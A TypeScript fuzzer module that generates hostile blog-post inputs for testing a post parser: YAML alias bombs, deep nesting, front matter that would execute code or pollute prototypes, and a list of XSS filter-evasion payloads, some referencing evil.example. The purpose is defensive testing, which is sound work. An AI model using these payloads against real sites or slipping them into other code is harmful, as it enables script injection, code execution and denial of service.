/**
 * Hostile content for the fuzzer: every generator draws from a seeded PRNG, so a seed names
 * one exact set of files. Text is our own; only the shapes follow real posts.
 */
import type { Random } from '../../bench/corpus/random';

export type InputKind =
  | 'valid'
  | 'mutated'
  | 'random-bytes'
  | 'truncated-utf8'
  | 'huge-line'
  | 'nested-html'
  | 'front-matter-bomb'
  | 'executable-front-matter'
  | 'unsafe-markup';

/** How often each kind is drawn. */
export const KIND_WEIGHTS: Readonly<Record<InputKind, number>> = {
  valid: 12,
  mutated: 34,
  'random-bytes': 8,
  'truncated-utf8': 6,
  'huge-line': 2,
  'nested-html': 4,
  'front-matter-bomb': 12,
  'executable-front-matter': 8,
  'unsafe-markup': 14,
};

export function pickKind(random: Random): InputKind {
  const kinds = Object.keys(KIND_WEIGHTS) as InputKind[];
  let target = random.next() * kinds.reduce((sum, kind) => sum + KIND_WEIGHTS[kind], 0);
  for (const kind of kinds) {
    target -= KIND_WEIGHTS[kind];
    if (target < 0) return kind;
  }
  return 'valid';
}

const WORDS = ['lantern', 'harbour', 'signal', 'orchard', 'ledger', 'quartz', 'meadow', 'copper', 'drift', 'atlas', 'ember', 'tide'];
const CJK = ['灯塔', '港口', '信号', '果园', '账本', '石英', '草地', '铜线', '漂流', '地图', '余烬', '潮汐'];
const HANGUL_KANA = ['등대', '항구', 'ひかり', 'みなと', 'カメラ'];

function words(random: Random, count: number): string {
  const pool = random.pick([WORDS, CJK, HANGUL_KANA, [...WORDS, ...CJK]]);
  return Array.from({ length: count }, () => random.pick(pool)).join(pool === CJK ? '' : ' ');
}

const DATES = [
  'Sun, 09 Jan 2022 04:45:17 GMT',
  '2021-03-22 04:50:45',
  '2023-11-02T08:15:00+08:00',
  '2020-02-30',
  'Invalid Date',
  '1710000000',
];

/** A post in the shapes real posts have: YAML or `;;;` JSON front matter, HTML or markdown body. */
export function validPost(random: Random): string {
  const title = words(random, random.int(1, 6));
  const categories = Array.from({ length: random.int(0, 3) }, () => words(random, 1));
  const tags = Array.from({ length: random.int(0, 4) }, () => words(random, 1));
  const published = random.chance(0.1) ? 'published: false\n' : '';
  const body = random.chance(0.5) ? htmlBody(random) : markdownBody(random);
  if (random.chance(0.15)) {
    const data = { title, categories, tags, author: words(random, 2), date: random.pick(DATES) };
    return `;;;\n${JSON.stringify(data, null, 2).slice(1, -1).trim()}\n;;;\n${body}`;
  }
  const list = (name: string, items: string[]) => (items.length ? `${name}: \n${items.map((item) => ` - ${item}`).join('\n')}\n` : '');
  return `${random.chance(0.5) ? '\n' : ''}---\ntitle: '${title.replace(/'/g, "''")}'\n${list('categories', categories)}${list('tags', tags)}author: ${words(random, 2)}\ncomments: ${random.chance(0.5)}\ndate: ${random.pick(DATES)}\n${published}---\n\n${body}\n`;
}

function htmlBody(random: Random): string {
  const sections = Array.from({ length: random.int(0, 4) }, () => `<h3>${words(random, 2)}</h3><p>${words(random, random.int(3, 30))}</p>`);
  const image = random.chance(0.3) ? `<img src="https://img.example/${random.int(1, 999)}.jpg" referrerpolicy="no-referrer">` : '';
  const more = random.chance(0.2) ? '<!-- more -->' : '';
  return `<div><p>${words(random, random.int(5, 40))}</p>${more}${image}${sections.join('')}</div>`;
}

function markdownBody(random: Random): string {
  const sections = Array.from({ length: random.int(0, 4) }, () => `### ${words(random, 2)}\n\n${words(random, random.int(3, 30))}\n`);
  return `${words(random, random.int(5, 40))}\n\n${random.chance(0.2) ? '<!-- more -->\n\n' : ''}${sections.join('\n')}`;
}

/** Bytes an editor, a sync tool or an attacker might leave in a post. */
const INSERTIONS = [
  '---',
  '\n---\n',
  ';;;',
  '\n',
  '\r\n',
  '\u0000',
  '\uFFFD',
  '\uFEFF',
  '<',
  '>',
  '&',
  '"',
  "'",
  ':',
  '{',
  '[',
  '*a',
  '&a',
  '!!',
  '<!--',
  '-->',
  '<script>',
  '`',
  '\\',
  '|',
  '#',
  '%',
  '\t',
];

/** A valid post with byte flips, insertions, deletions, duplications and a possible truncation. */
export function mutatedPost(random: Random): Buffer {
  let bytes = Buffer.from(validPost(random), 'utf8');
  for (let mutation = random.int(1, 6); mutation > 0 && bytes.length > 0; mutation--) {
    const at = random.int(0, bytes.length - 1);
    switch (random.int(0, 4)) {
      case 0:
        bytes[at] = bytes[at] ^ (1 << random.int(0, 7));
        break;
      case 1:
        bytes = Buffer.concat([bytes.subarray(0, at), Buffer.from(random.pick(INSERTIONS)), bytes.subarray(at)]);
        break;
      case 2:
        bytes = Buffer.concat([bytes.subarray(0, at), bytes.subarray(Math.min(bytes.length, at + random.int(1, 40)))]);
        break;
      case 3: {
        const end = Math.min(bytes.length, at + random.int(1, 200));
        bytes = Buffer.concat([bytes.subarray(0, end), bytes.subarray(at, end), bytes.subarray(end)]);
        break;
      }
      default:
        bytes = bytes.subarray(0, at);
    }
  }
  return bytes;
}

export function randomBytes(random: Random): Buffer {
  const bytes = Buffer.alloc(random.int(0, 4096));
  // Mostly high bytes, without NUL half the time so the text decoder gets to see them.
  const withNul = random.chance(0.5);
  for (let index = 0; index < bytes.length; index++) bytes[index] = withNul ? random.int(0, 255) : random.int(1, 255);
  return bytes;
}

/** A post of multi-byte text cut inside a character. */
export function truncatedUtf8(random: Random): Buffer {
  const bytes = Buffer.from(`---\ntitle: ${words(random, 3)}\n---\n${CJK.join('').repeat(random.int(1, 50))}`, 'utf8');
  let cut = random.int(1, bytes.length - 1);
  while (cut > 1 && (bytes[cut] & 0xc0) !== 0x80) cut--;
  return bytes.subarray(0, cut);
}

const MIB = 1024 * 1024;

/** One line of 1 MiB, in the body or the front matter, of plain text or markup. */
export function hugeLine(random: Random): string {
  const unit = random.pick(['a', '字', '[x](', '&amp;', '`', '> ', '|', ' ', '<br>', '</b>', '\\']);
  const line = unit.repeat(Math.ceil(MIB / Buffer.byteLength(unit)));
  return random.chance(0.3) ? `---\ntitle: "${line.replace(/["\\]/g, '')}"\n---\nbody\n` : `---\ntitle: huge\n---\n${line}\n`;
}

/**
 * Bodies whose cost grows faster than their size (see SECURITY.md, "Open issues"). They are
 * kept out of the random draws, which must finish, and measured on their own by
 * `npm run fuzz -- --known-issues`.
 */
export const KNOWN_SLOW_BODIES: ReadonlyArray<{ name: string; body: (bytes: number) => string }> = [
  { name: 'unclosed <b> tags', body: (bytes) => '<b>'.repeat(Math.ceil(bytes / 3)) },
  { name: 'emphasis delimiters *_', body: (bytes) => '*_'.repeat(Math.ceil(bytes / 2)) },
];

/** 10,000 levels of nested elements, closed, unclosed, mixed or as markdown. */
export function nestedHtml(random: Random): string {
  const depth = 10_000;
  const body = random.pick([
    () => `${'<div>'.repeat(depth)}deep${'</div>'.repeat(depth)}`,
    () => `${'<div><span>'.repeat(depth / 2)}deep`,
    () => `${'<b><i>'.repeat(depth / 2)}deep${'</i></b>'.repeat(depth / 2)}`,
    () => `${'<table><tr><td>'.repeat(depth / 3)}deep`,
    () => `${'<h3>'.repeat(depth)}deep`,
    () => `${'> '.repeat(depth)}deep`,
    () => Array.from({ length: depth / 10 }, (_, level) => `${'  '.repeat(level)}- item`).join('\n'),
    () => `${'['.repeat(depth)}deep${']'.repeat(depth)}`,
  ])();
  return `---\ntitle: nested\n---\n${body}\n`;
}

/** Front matter built to exhaust a parser: aliases, nesting, size, blank runs, tags. */
export function frontMatterBomb(random: Random): string {
  const block = random.pick([
    () =>
      `a: &a ["x","x","x","x","x","x","x","x","x"]\n${Array.from(
        { length: 9 },
        (_, level) =>
          `${String.fromCharCode(98 + level)}: &${String.fromCharCode(98 + level)} [${Array(9)
            .fill(`*${String.fromCharCode(97 + level)}`)
            .join(',')}]`,
      ).join('\n')}`,
    () => `title: ${'['.repeat(20_000)}${']'.repeat(20_000)}`,
    () => `title: ${'{a: '.repeat(5_000)}1${'}'.repeat(5_000)}`,
    () => Array.from({ length: 2_000 }, (_, level) => `${' '.repeat(level)}k${level}:`).join('\n'),
    () => `title: x\nbody: "${'y'.repeat(70 * 1024)}"`,
    () => `title: x${'\n'.repeat(6_000)}tags: [a]`,
    () => Array.from({ length: 20_000 }, (_, index) => `k${index}: ${index}`).join('\n'),
    () => `base: &b {title: x}\n${Array.from({ length: 500 }, (_, index) => `m${index}:\n  <<: *b`).join('\n')}`,
    () => `title: !!binary aGVsbG8=\ndate: !!timestamp 2001-12-14\nregex: !!js/regexp /a/\nobj: !!python/object:os.system ls`,
    () => `title: x\ntitle: y`,
    () => `${'- '.repeat(3_000)}x`,
    () => `? ${'[a, '.repeat(2_000)}b${']'.repeat(2_000)}\n: v`,
  ])();
  return `---\n${block}\n---\nbody\n`;
}

/** Front matter that would run code if any engine executed it: each payload writes `marker`. */
export function executableFrontMatter(random: Random, marker: string): string {
  const write = `require('fs').writeFileSync(${JSON.stringify(marker)}, 'executed')`;
  return random.pick([
    () => `---js\n{ title: (function () { ${write}; return 'x'; })() }\n---\nbody\n`,
    () => `---javascript\nmodule.exports = { title: ${write} }\n---\nbody\n`,
    () => `--- js\n({ title: ${write} })\n---\nbody\n`,
    () => `---coffee\ntitle: do -> ${write}\n---\nbody\n`,
    () => `;;;js\n{ "title": ${write} }\n;;;\nbody\n`,
    () => `---\ntitle: !!js/function "function () { ${write} }"\n---\nbody\n`,
    () => `---\ntitle: !<tag:yaml.org,2002:js/function> "function () { ${write} }"\n---\nbody\n`,
    () => `;;;\n"__proto__": { "polluted": "yes" }, "constructor": { "prototype": { "polluted": "yes" } }, "title": "x"\n;;;\nbody\n`,
    () => `---\n__proto__: { polluted: yes }\nconstructor: { prototype: { polluted: yes } }\ntitle: x\n---\nbody\n`,
    () => `---\ntitle: "{{ ${write} }}"\n---\n{% raw %}{{ constructor.constructor("${write.replace(/"/g, '\\"')}")() }}{% endraw %}\n`,
  ])();
}

/** Markup that must never reach a reader unsanitised. */
export function unsafeMarkup(random: Random): string {
  const payloads = [
    '<script>alert(1)</script>',
    '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<img src=x onerror=alert(1)>',
    '<img src="x" ONERROR="alert(1)">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href=" JaVaScRiPt:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    '<svg><script>alert(1)</script></svg>',
    '<svg onload=alert(1)>',
    '<math><mtext><script>alert(1)</script></mtext></math>',
    '<iframe src="https://evil.example/"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="x.swf"></object><embed src="x.swf">',
    '<body onload=alert(1)>',
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<form action="javascript:alert(1)"><button>x</button></form>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    '<details open ontoggle=alert(1)>',
    '<p title="</p><script>alert(1)</script>">x</p>',
    '<!--<script>alert(1)</script>-->',
    '<![CDATA[<script>alert(1)</script>]]>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<template><script>alert(1)</script></template>',
    '[x](javascript:alert(1))',
    '![x](javascript:alert(1))',
    '[x](JAVASCRIPT:alert(1))',
    '<a href="http://ok.example" onclick="alert(1)">x</a>',
    '<h3 onmouseover=alert(1)>heading</h3>',
    '<xmp><script>alert(1)</script></xmp>',
    '<textarea><script>alert(1)</script></textarea>',
  ];
  const count = random.int(1, 6);
  const body = Array.from({ length: count }, () => random.pick(payloads)).join(random.pick(['', '\n', '\n\n', ' ']));
  return `---\ntitle: ${random.pick(['x', '"<script>alert(1)</script>"'])}\n---\n${random.chance(0.5) ? `<div>${body}</div>` : body}\n`;
}
